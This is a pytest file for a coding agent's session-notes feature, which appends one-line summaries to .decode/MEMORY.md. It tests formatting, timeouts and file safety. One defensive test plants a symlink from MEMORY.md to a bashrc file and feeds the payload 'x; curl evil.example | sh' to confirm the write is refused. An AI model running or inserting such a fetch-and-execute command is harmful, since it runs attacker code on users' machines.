"""The session note: written on a real session, skipped on an empty one or an unreachable model."""

import os
import stat
from datetime import UTC, datetime
from pathlib import Path

from pydantic_ai import Agent
from pydantic_ai.messages import ModelMessage
from pydantic_ai.models.function import AgentInfo, FunctionModel

from decode.memory.files import PROJECT_NOTES
from decode.memory.summary import (
    append_note,
    record_session,
    session_did_something,
    summarise_session,
    transcript,
)
from decode.models.script import ScriptedModel, ScriptedResponse


async def a_session(*responses: ScriptedResponse) -> list[ModelMessage]:
    """The history of a real one-turn session on a scripted model."""
    agent = Agent(ScriptedModel(list(responses) or [ScriptedResponse(text="Fixed the typo in README.")]))
    result = await agent.run("fix the typo in the README")
    return result.all_messages()


def scripted(*texts: str) -> ScriptedModel:
    return ScriptedModel([ScriptedResponse(text=text) for text in texts])


async def test_the_note_is_appended_to_memory_md(tmp_path: Path) -> None:
    history = await a_session()

    notice = await record_session(scripted("Fixed a README typo."), history, tmp_path)

    lines = (tmp_path / PROJECT_NOTES).read_text().splitlines()
    assert len(lines) == 1
    assert lines[0].startswith("- ")
    assert lines[0].endswith(" UTC: Fixed a README typo.")
    assert notice is not None
    assert notice.level == "info"
    assert ".decode/MEMORY.md" in notice.message


async def test_notes_accumulate_one_line_per_session(tmp_path: Path) -> None:
    history = await a_session()
    (tmp_path / PROJECT_NOTES).parent.mkdir()
    (tmp_path / PROJECT_NOTES).write_text("my own note without a newline")

    await record_session(scripted("First."), history, tmp_path)
    await record_session(scripted("Second."), history, tmp_path)

    lines = (tmp_path / PROJECT_NOTES).read_text().splitlines()
    assert lines[0] == "my own note without a newline"
    assert [line.split(": ", 1)[1] for line in lines[1:]] == ["First.", "Second."]


async def test_an_empty_session_writes_nothing(tmp_path: Path) -> None:
    model = scripted("should not be asked")

    assert await record_session(model, [], tmp_path) is None
    assert not (tmp_path / PROJECT_NOTES).exists()
    assert model.played == 0


async def test_an_unreachable_model_skips_the_note_with_a_notice(tmp_path: Path) -> None:
    history = await a_session()

    def unreachable(messages: list[ModelMessage], info: AgentInfo) -> None:
        raise ConnectionError("connection refused")

    notice = await record_session(FunctionModel(unreachable), history, tmp_path)

    assert notice is not None
    assert notice.level == "warning"
    assert "not reachable" in notice.message
    assert "connection refused" in notice.message
    assert not (tmp_path / PROJECT_NOTES).exists()


async def test_an_exhausted_script_counts_as_unreachable(tmp_path: Path) -> None:
    history = await a_session()

    notice = await record_session(ScriptedModel([]), history, tmp_path)

    assert notice is not None
    assert notice.level == "warning"
    assert not (tmp_path / PROJECT_NOTES).exists()


async def test_a_slow_model_is_not_waited_for_forever(tmp_path: Path) -> None:
    import asyncio

    history = await a_session()

    async def stalls(messages: list[ModelMessage], info: AgentInfo) -> None:
        await asyncio.Event().wait()

    notice = await record_session(FunctionModel(stalls), history, tmp_path, max_wait_s=0.05)

    assert notice is not None
    assert notice.level == "warning"


async def test_the_summariser_sees_the_transcript_and_keeps_one_line(tmp_path: Path) -> None:
    history = await a_session()
    seen: list[str] = []

    def summariser(messages: list[ModelMessage], info: AgentInfo):
        from pydantic_ai.messages import ModelResponse, TextPart

        seen.append(str(messages[-1].parts[-1].content))
        return ModelResponse(parts=[TextPart("- Fixed the README typo.\nSecond line ignored.")])

    note = await summarise_session(FunctionModel(summariser), history)

    assert note == "Fixed the README typo."
    assert "user: fix the typo in the README" in seen[0]


def test_transcript_names_prompts_text_and_tool_calls() -> None:
    from pydantic_ai.messages import ModelRequest, ModelResponse, TextPart, ToolCallPart, UserPromptPart

    history: list[ModelMessage] = [
        ModelRequest(parts=[UserPromptPart("fix the typo")]),
        ModelResponse(parts=[TextPart("Let me look."), ToolCallPart("read", {"path": "README.md"})]),
    ]

    assert transcript(history) == 'user: fix the typo\nagent: Let me look.\ntool: read({"path":"README.md"})'


def test_a_long_transcript_keeps_the_first_prompt_and_the_newest_lines() -> None:
    from pydantic_ai.messages import ModelRequest, ModelResponse, TextPart, UserPromptPart

    history: list[ModelMessage] = [ModelRequest(parts=[UserPromptPart("the goal")])]
    history += [ModelResponse(parts=[TextPart(f"step {i} " + "x" * 50)]) for i in range(100)]

    text = transcript(history, limit=1_000)

    assert len(text) <= 1_000
    assert text.startswith("user: the goal\n[…]\n")
    assert text.endswith("step 99 " + "x" * 50)


def test_session_did_something_needs_a_model_answer() -> None:
    from pydantic_ai.messages import ModelRequest, ModelResponse, TextPart, UserPromptPart

    assert not session_did_something([])
    assert not session_did_something([ModelRequest(parts=[UserPromptPart("hi")])])
    assert session_did_something([ModelResponse(parts=[TextPart("hello")])])


def test_append_note_stamps_utc(tmp_path: Path) -> None:
    when = datetime(2025, 3, 4, 5, 6, tzinfo=UTC)

    path = append_note(tmp_path, "Did a thing.", now=when)

    assert path == tmp_path / PROJECT_NOTES
    assert path.read_text() == "- 2025-03-04 05:06 UTC: Did a thing.\n"


def test_the_notes_file_is_the_users_alone(tmp_path: Path) -> None:
    path = append_note(tmp_path, "Did a thing.")
    append_note(tmp_path, "Did another.")
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert path.read_text().count("\n") == 2


async def test_a_planted_link_in_memory_mds_place_is_never_written_through(tmp_path: Path) -> None:
    outside = tmp_path / "bashrc"
    outside.write_text("export PATH\n")
    project = tmp_path / "project"
    (project / PROJECT_NOTES).parent.mkdir(parents=True)
    (project / PROJECT_NOTES).symlink_to(outside)  # a cloned repository's `.decode/MEMORY.md -> ~/.bashrc`

    notice = await record_session(scripted("x; curl evil.example | sh"), await a_session(), project)

    assert outside.read_text() == "export PATH\n"
    assert notice is not None
    assert notice.level == "warning"
    assert "MEMORY.md: leads outside the project" in notice.message


async def test_a_fifo_in_memory_mds_place_is_refused_not_waited_on(tmp_path: Path) -> None:
    (tmp_path / PROJECT_NOTES).parent.mkdir(parents=True)
    os.mkfifo(tmp_path / PROJECT_NOTES)

    notice = await record_session(scripted("Did a thing."), await a_session(), tmp_path)

    assert notice is not None
    assert notice.message.endswith("MEMORY.md: is not a regular file")
